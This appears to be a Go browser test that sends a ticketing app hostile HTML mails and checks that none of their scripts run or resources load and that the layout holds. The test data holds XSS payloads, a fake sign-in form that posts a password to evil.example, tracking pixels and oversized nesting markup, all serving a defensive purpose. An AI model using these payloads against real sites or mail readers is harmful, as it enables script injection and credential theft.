package e2e

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// hostile are malicious mails.
var hostile = map[string]string{
	"script": `<p>Hello</p><script>top.owned = 1; parent.owned = 1; window.owned = 1; fetch("https://evil.example/")</script><img src=x onerror="top.owned=2"><a href="javascript:top.owned=3">press me</a>` +
		`<iframe srcdoc="<script>top.owned=4</script>"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><math><mtext><script>top.owned=5</script></mtext></math>`,
	"style": `<style>@import url(https://evil.example/x.css); * { display: none } body { position: fixed; inset: 0; background: red }</style><link rel="stylesheet" href="https://evil.example/x.css">` +
		`<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:url(https://evil.example/b.png)">over everything</div><p style="width:100000px;white-space:nowrap">` + strings.Repeat("wide ", 4000) + `</p>`,
	"form": `<form action="https://evil.example/steal" method="post"><label>Password <input name="password" type="password" autofocus></label><button>Sign in again</button></form><base href="https://evil.example/">` +
		`<meta http-equiv="refresh" content="0;url=https://evil.example/"><button onclick="top.owned=6">press me</button>`,
	"svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="top.owned=7"><script>top.owned=8</script><a xlink:href="javascript:top.owned=9"><text y="20">press me</text></a>` +
		`<image href="https://evil.example/i.svg"/><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject><use href="https://evil.example/u.svg#x"/></svg>`,
	"cid":     `<img src="cid:nobody@evil.example"><img src="cid:&quot;onerror=top.owned=10"><img src="CID:../../../static/app.js"><img src="https://evil.example/pixel.gif" width="1" height="1"><p background="https://evil.example/bg.png">text</p>`,
	"ends":    `</div></section></main></body></html></iframe></textarea></title></template><h1>Not ours</h1><script>top.owned=11</script><main><nav>also not ours</nav>`,
	"nesting": strings.Repeat("<div><b>", 5<<20/8) + "deep",
	"tables":  strings.Repeat("<table><tr><td>", 20000) + "deep" + strings.Repeat("x", 100000),
	"word":    "<p>" + strings.Repeat("a", 1<<20) + "</p>",
}

// TestHostileMail checks that a malicious mail runs and loads nothing, and does not break
// the layout.
func TestHostileMail(t *testing.T) {
	t.Parallel()
	needChromium(t)
	p := start(t)
	o, robin := p.organization("Acme Wheels")
	p.connect(o)
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			parallel(t)
			p := p.with(t)
			from := name + "@client.example"
			p.receiveMail(from, markup(from, "A mail of "+name, text))
			var number int64
			p.until("the ticket", func() bool {
				number = p.number(o.ID, "A mail of "+name)
				return number != 0
			})
			v := p.as(t, robin)
			begin := time.Now()
			if status := v.open(fmt.Sprintf("/tickets/%d", number)); status != 200 {
				v.fatal("the page was answered", status)
			}
			t.Logf("there after %v", time.Since(begin))
			v.waitText("A mail of " + name)
			v.checkLayout()
			v.checkAccess()
			// Open all parts that a user can open.
			js[bool](v, `document.querySelectorAll("details").forEach(d => d.open = true) ?? true`)
			v.checkLayout()
			if js[bool](v, `(e => { if (!e) return false; e.scrollIntoView({block: "start"}); const r = e.getBoundingClientRect(); return document.elementFromPoint(r.left + 20, r.top + 10) === e; })(document.querySelector("iframe"))`) {
				at := js[struct{ X, Y float64 }](v, `(r => ({X: r.left + 20, Y: r.top + 10}))(document.querySelector("iframe").getBoundingClientRect())`)
				v.do(chromedp.MouseClickXY(at.X, at.Y))
			}
			v.setScreen(narrow)
			v.checkLayout()
			v.at(fmt.Sprintf("/tickets/%d", number))
			if owned := js[int](v, `Number(window.owned ?? 0) + Array.from({length: frames.length}, (_, i) => frames[i]).reduce((n, f) => { try { return n + Number(f.owned ?? 0); } catch { return n; } }, 0)`); owned != 0 {
				t.Errorf("script %d of the mail ran", owned)
			}
			if n := js[int](v, `document.querySelectorAll("h1").length`); n != 1 {
				t.Errorf("the page has %d headings", n)
			}
		})
	}
}
